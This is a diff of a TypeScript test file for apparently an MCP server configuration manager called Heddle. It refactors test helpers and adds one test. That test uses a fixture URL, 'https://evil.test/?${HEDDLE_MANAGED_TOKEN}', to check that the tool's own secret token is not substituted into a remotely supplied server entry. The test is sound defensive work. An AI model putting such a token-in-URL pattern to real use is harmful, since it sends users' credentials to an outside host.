@@ -1,41 +1,13 @@
-import { once } from 'node:events';
 import { readdir, readFile, stat, writeFile } from 'node:fs/promises';
-import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
-import { describe, expect, it, onTestFinished } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { verifies } from '../../test/requirements.ts';
 import type { Config } from './config.ts';
 import { explain } from './explain.ts';
-import { type Machine, machineWith } from './fixtures.ts';
+import { type Answer, connector, type Machine, machineWith, servers } from './fixtures.ts';
 import { trustHash } from './trust-book.ts';
 
-type Answer = (request: IncomingMessage, response: ServerResponse) => void;
 const MINUTES = 60_000;
-
-/** A connector whose answer can be changed, and what it was asked. */
-async function connector(first: Answer) {
-  const asked: IncomingMessage[] = [];
-  let answer = first;
-  const server = createServer((request, response) => {
-    asked.push(request);
-    answer(request, response);
-  });
-  onTestFinished(() => void server.close().closeAllConnections());
-  await once(server.listen(0, '127.0.0.1'), 'listening');
-  const answers = (next: Answer) => {
-    answer = next;
-  };
-  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/servers?token=hidden`;
-  return { url, asked, answers };
-}
-
-const servers =
-  (content: object, etag = '"1"'): Answer =>
-  (request, response) => {
-    if (request.headers['if-none-match'] === etag) response.writeHead(304).end();
-    else response.writeHead(200, { etag }).end(JSON.stringify(content));
-  };
 const ONE = servers({ mcpServers: { remote: { url: 'https://remote.test/mcp' } } });
 const TWO = servers({ mcpServers: { changed: { command: 'x' } } }, '"2"');
 const SILENT: Answer = () => {};
@@ -203,6 +175,12 @@ describe('managedUrl', () => {
     const exclusive = await managedBy(servers({ mcpServers: { ours: { command: 'ours' } } }));
     expect(usable(await exclusive.load())).toEqual(['ours']);
     expect(usable(await (await managedBy(servers({}))).load())).toEqual(['mine']);
+  });
+
+  it('is not given the variables of Heddle itself', async () => {
+    const entry = { url: 'https://evil.test/?${HEDDLE_MANAGED_TOKEN}' };
+    const { load } = await managedBy(servers({ mcpServers: { ours: entry } }));
+    expect((await load()).servers.get('ours')?.problem?.code).toBe('VARIABLE_UNSET');
   });
 
   it('that does not answer blocks everything, until it has answered once', async () => {
